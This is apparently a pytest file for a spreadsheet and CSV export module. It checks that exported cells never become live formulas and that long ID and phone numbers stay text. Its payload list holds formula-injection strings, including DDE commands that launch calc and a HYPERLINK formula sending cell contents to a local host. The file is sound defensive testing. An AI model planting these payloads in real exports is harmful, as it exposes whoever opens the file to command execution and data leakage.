"""A5: no cell of an export is a formula, and no number is bent."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from xingtan.foundation.sheets import neutral, read_workbook, read_workbook_here, write_csv, write_workbook

PAYLOADS = [
    "=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    '=HYPERLINK("http://127.0.0.1/?x="&A1,"点我")', "=cmd|'/C calc'!A0", "{=1+1}", "=DDE(1)", "　=1",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_a_formula_in_a_workbook(payload: str) -> None:
    content = write_workbook([payload], [[payload]], title=payload)

    for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows():
        for cell in row:
            assert cell.data_type != "f"


@pytest.mark.parametrize("payload", [each for each in PAYLOADS if not each.startswith("{")])
def test_no_text_is_live_in_a_text_table(payload: str) -> None:
    text = write_csv([payload], [[payload]]).decode("utf-8-sig")

    for row in csv.reader(io.StringIO(text, newline="")):
        assert row[0] == f"'{payload}"


@given(st.text(min_size=1))
def test_nothing_neutral_begins_like_a_formula(text: str) -> None:
    assert neutral(text).lstrip()[:1] not in set("=+-@＝＋－＠") or neutral(text).startswith("'")


def test_long_numbers_stay_text() -> None:
    number, mobile = "140922198001011234", "13800138001"
    book = openpyxl.load_workbook(io.BytesIO(write_workbook(["身份证号", "手机号"], [[number, mobile]])))
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]

    assert [(cell.value, cell.data_type, cell.number_format) for cell in cells] == [
        (number, "s", "@"),
        (mobile, "s", "@"),
    ]


def test_amounts_and_nothing_are_written_plainly() -> None:
    assert write_csv(["a", "b", "c"], [[Decimal("-12.50"), 3, None]]).decode("utf-8-sig") == "a,b,c\r\n-12.50,3,\r\n"


def test_a_blank_form_has_text_cells_to_be_filled() -> None:
    content = write_workbook(["姓名", "身份证号"], [], title="报名表", blank_rows=5)
    page = openpyxl.load_workbook(io.BytesIO(content)).active

    assert read_workbook_here(content).sheets[0].rows[:2] == [["报名表", ""], ["姓名", "身份证号"]]
    assert page["B7"].number_format == "@"
    assert page.column_dimensions["B"].width > 8


def test_a_marked_cell_is_tinted_and_says_why_and_reads_back() -> None:
    content = write_workbook(["姓名", "手机号"], [["王秀英", "1380"], ["李梅", "=1+1"]], marks={(0, 1): "少了几位"})
    page = openpyxl.load_workbook(io.BytesIO(content)).active

    assert page["B2"].comment.text == "少了几位"
    assert page["B2"].fill.fgColor.rgb.endswith("FFE8B3")
    assert [page[each].comment for each in ("A2", "A3", "B3")] == [None, None, None]
    assert read_workbook(content).sheets[0].rows[1:] == [["王秀英", "1380"], ["李梅", "=1+1"]]
